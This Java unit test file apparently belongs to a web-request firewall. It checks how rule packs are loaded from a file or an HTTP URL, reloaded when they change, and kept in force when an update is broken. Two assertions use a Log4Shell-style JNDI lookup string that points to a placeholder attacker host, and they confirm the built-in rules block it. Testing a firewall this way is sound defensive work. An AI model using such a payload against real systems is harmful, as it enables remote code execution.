package io.palisade.core.rules;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.palisade.core.config.Settings;
import io.palisade.core.config.SettingsReader;
import io.palisade.core.counters.Counters;
import io.palisade.core.request.RequestContext;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicReference;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code palisade.rules.location}: a file or an HTTP URL, re-read only when it changed, never worse for a bad pack. */
class RuleLocationTest {

    static String pack(String version, String value) {
        return "{\"format\":\"palisade-rules/1\",\"version\":\"" + version + "\",\"rules\":[{\"id\":\"word\","
                + "\"attack_type\":\"policy\",\"conditions\":[{\"inputs\":[\"query\"],\"operator\":\"equals\","
                + "\"value\":[\"" + value + "\"]}]}]}";
    }

    private final Counters counters = new Counters();

    private RuleSources sources;

    /** An engine and its rule sources, the location read once as at deployment. */
    private RuleEngine engine(String location) {
        Settings settings = SettingsReader.read(key -> key.equals("palisade.rules.location") ? location : null);
        RuleEngine engine = new RuleEngine(settings, null, new RequestContext(), counters);
        sources = new RuleSources(settings, engine);
        sources.poll();
        return engine;
    }

    private static boolean blocks(RuleEngine engine, String value) {
        return engine.inspectRequest(RuleEngineTest.request("/", "192.0.2.1", "QUERY", "q", value)) != null;
    }

    @Test
    void aFileIsReadAtStartAndAgainWhenItChanges(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("rules.json");
        Files.writeString(file, pack("f1", "apple"));
        RuleEngine engine = engine(file.toString());
        assertThat(engine.rules().version()).isEqualTo("builtin-2026.12.03+f1");
        assertThat(blocks(engine, "apple")).isTrue();
        assertThat(sources.poll()).as("unchanged: not applied again").isFalse();

        Files.writeString(file, pack("f2", "pear"));
        Files.setLastModifiedTime(file, FileTime.from(Instant.now().plusSeconds(5)));
        assertThat(sources.poll()).isTrue();
        assertThat(blocks(engine, "pear")).isTrue();
        assertThat(blocks(engine, "apple")).isFalse();
        assertThat(blocks(engine, "${jndi:ldap://evil.example/a}")).as("the built-in rules still apply").isTrue();

        // A broken edit leaves the rules in force and says why.
        Files.writeString(file, pack("f3", "plum").replace("\"equals\"", "\"equal\""));
        Files.setLastModifiedTime(file, FileTime.from(Instant.now().plusSeconds(10)));
        assertThat(sources.poll()).isFalse();
        assertThat(blocks(engine, "pear")).isTrue();
        assertThat(engine.lastError()).contains("unknown operator 'equal'");
        assertThat(counters.snapshot()).containsEntry("rule_packs_rejected", 1L);

        // So does a file that disappears.
        Files.delete(file);
        assertThat(sources.poll()).isFalse();
        assertThat(blocks(engine, "pear")).isTrue();
    }

    @Test
    void aMissingOrBrokenFileAtStartLeavesTheBuiltInPack(@TempDir Path dir) throws Exception {
        RuleEngine missing = engine(dir.resolve("absent.json").toString());
        assertThat(missing.rules().origin()).isEqualTo("built-in");
        Path broken = dir.resolve("broken.json");
        Files.writeString(broken, "{ not json");
        RuleEngine engine = engine(broken.toUri().toString());
        assertThat(engine.rules().origin()).isEqualTo("built-in");
        assertThat(engine.lastError()).contains("is not a JSON object");
        assertThat(blocks(engine, "${jndi:ldap://evil.example/a}")).isTrue();
    }

    @Test
    void anHttpLocationIsAskedWithItsETag() throws Exception {
        AtomicReference<String> body = new AtomicReference<>(pack("h1", "apple"));
        List<String> ifNoneMatch = new CopyOnWriteArrayList<>();
        HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/rules.json", exchange -> {
            try (exchange) {
                String etag = "\"" + Integer.toHexString(body.get().hashCode()) + "\"";
                String asked = exchange.getRequestHeaders().getFirst("If-None-Match");
                ifNoneMatch.add(String.valueOf(asked));
                exchange.getResponseHeaders().add("ETag", etag);
                if (etag.equals(asked)) {
                    exchange.sendResponseHeaders(304, -1);
                    return;
                }
                byte[] bytes = body.get().getBytes(StandardCharsets.UTF_8);
                exchange.sendResponseHeaders(200, bytes.length);
                exchange.getResponseBody().write(bytes);
            }
        });
        server.start();
        try {
            RuleEngine engine = engine("http://127.0.0.1:" + server.getAddress().getPort() + "/rules.json");
            assertThat(blocks(engine, "apple")).isTrue();
            assertThat(sources.poll()).isFalse();
            assertThat(ifNoneMatch.get(1)).startsWith("\"");

            body.set(pack("h2", "pear"));
            assertThat(sources.poll()).isTrue();
            assertThat(blocks(engine, "pear")).isTrue();

            body.set("{\"format\":\"palisade-rules/1\"}");
            assertThat(sources.poll()).isFalse();
            assertThat(blocks(engine, "pear")).isTrue();
            assertThat(engine.lastError()).contains("\"version\"");
        } finally {
            server.stop(0);
        }
    }

    @Test
    void theSourcesFollowAFileOnTheirOwnThreadWithoutAReporter(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("rules.json");
        Files.writeString(file, pack("t1", "apple"));
        Settings settings = SettingsReader.read(Map.of("palisade.rules.location", file.toString(),
                "palisade.rules.refresh", "1s")::get);
        RuleEngine engine = new RuleEngine(settings, null, new RequestContext(), counters);
        try (RuleSources own = new RuleSources(settings, engine)) {
            assertThat(own.hasLocation()).isTrue();
            own.poll();
            own.start();
            own.start(); // idempotent: one thread
            assertThat(Thread.getAllStackTraces().keySet().stream().filter(t -> t.getName().equals("palisade-rules")))
                    .hasSize(1);
            Files.writeString(file, pack("t2", "pear"));
            Files.setLastModifiedTime(file, FileTime.from(Instant.now().plusSeconds(5)));
            Awaitility.await().atMost(Duration.ofSeconds(10)).until(() -> blocks(engine, "pear"));
            assertThat(blocks(engine, "apple")).isFalse();
        }
        Awaitility.await().atMost(Duration.ofSeconds(10)).until(() -> Thread.getAllStackTraces().keySet().stream()
                .noneMatch(t -> t.getName().equals("palisade-rules") && t.isAlive()));
    }
}
